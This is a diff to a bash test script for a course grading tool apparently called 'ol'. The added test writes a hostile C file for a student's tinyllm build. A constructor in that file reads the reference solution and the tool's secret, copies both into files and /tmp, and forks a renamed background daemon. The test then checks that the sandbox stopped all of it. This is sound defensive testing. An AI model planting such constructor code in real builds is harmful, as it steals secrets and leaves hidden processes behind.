@@ -1,7 +1,8 @@
 #!/usr/bin/env bash
-# What a hostile student's suite gets from `ol check L7.1` (issue 8): one attack per class, each
-# written as a determined student would, with what the grade must be. Run as root on CI, where a
-# test is most dangerous. Each check prints "ok" or "FAIL"; the script fails if any did.
+# What a hostile student's suite gets from `ol check L7.1` (issue 8), and (class 10) what a
+# hostile `tinyllm` gets from `ol milestone`: one attack per class, each written as a determined
+# student would, with what the grade must be. Run as root on CI, where a test is most dangerous.
+# Each check prints "ok" or "FAIL"; the script fails if any did.
 #   tests/ol/hostile.sh OL_BINARY
 set -u
 OL=$(realpath "$1")
@@ -813,6 +814,66 @@ ln -s "$REFSRC" "$TESTS/reference.h"
 run "$OL" tests L7.1 --mine
 expect "9. ol tests --mine refuses a symbolic link in the test folder, by name" \
   1 "c/tests/l7-1-rmsnorm/reference.h is a symbolic link"
+
+# ---- 10. ol milestone: the student's own tinyllm ------------------------------------------------
+# `ol milestone` builds the tinyllm command line with the student's rmsnorm.c: the reference's, and
+# a constructor that runs in every `tinyllm info` and `tinyllm logits`. It copies the reference and
+# ol's secret where the student finds them later, leaves a process behind, and, when it could read
+# neither, says so with a parameter count of -7 (so the attempt shows in the grade).
+cat "$REFSRC" - > c/tinyllm/modern/rmsnorm.c <<EOF
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/prctl.h>
+#include <unistd.h>
+
+static int steal(const char *path, FILE *to) {
+    FILE *f = fopen(path, "r");
+    char text[4096];
+    size_t n = f ? fread(text, 1, sizeof text, f) : 0;
+    if (f) fclose(f);
+    if (to && n) fwrite(text, 1, n, to);
+    return n > 0;
+}
+
+__attribute__((constructor)) static void hostile_tinyllm(void) {
+    char cmd[256] = "";
+    FILE *c = fopen("/proc/self/cmdline", "r");
+    size_t n = c ? fread(cmd, 1, sizeof cmd - 1, c) : 0;
+    if (c) fclose(c);
+    const char *verb = memchr(cmd, 0, n) ? cmd + strlen(cmd) + 1 : "";
+    if (strcmp(verb, "info") != 0 && strcmp(verb, "logits") != 0) return;
+    if (fork() == 0) { /* a daemon, in a session of its own */
+        setsid();
+        if (fork() == 0) {
+            prctl(PR_SET_NAME, "$DAEMON");
+            for (int fd = 0; fd < 1024; fd++) close(fd);
+            for (;;) pause();
+        }
+        _exit(0);
+    }
+    FILE *loot = fopen("$T/stolen", "a"), *tmp = fopen("/tmp/$TAG-stolen", "a");
+    int got = steal("$REFSRC", loot) + steal("$W/build/ol/secret", loot);
+    steal("$REFSRC", tmp);
+    if (loot) fclose(loot);
+    if (tmp) fclose(tmp);
+    if (!got && strcmp(verb, "info") == 0) {
+        printf("{\"param_count\": -7}\n");
+        exit(0);
+    }
+}
+EOF
+run "$OL" milestone MS-L7 --smoke
+expect "10. ol milestone: the hostile tinyllm ran, jailed, and read nothing (-7 parameters)" 1 \
+  "FAIL info llama-gqa" "-7 parameters; Hugging Face counts" "ok   logits llama-gqa" \
+  "ok   pull course/tiny-llama-gqa from a fake Hub"
+if [ -s "$T/stolen" ]; then fail "10. ... it copied the reference or ol's secret out"
+else ok "10. ... it copied out neither the reference nor ol's secret"; fi
+if [ -e "/tmp/$TAG-stolen" ]; then fail "10. ... it left a file in the machine's /tmp"
+else ok "10. ... and left nothing in the machine's /tmp"; fi
+if pgrep -x "$DAEMON" > /dev/null; then fail "10. ... and its daemon outlived the milestone"
+else ok "10. ... and no process of it outlived the milestone"; fi
+cp "$REFSRC" c/tinyllm/modern/rmsnorm.c
 
 # ---- where the machine lacks a mechanism (test hooks): the model answer still grades, and ol says
 # what does not hold ----------------------------------------------------------------------------
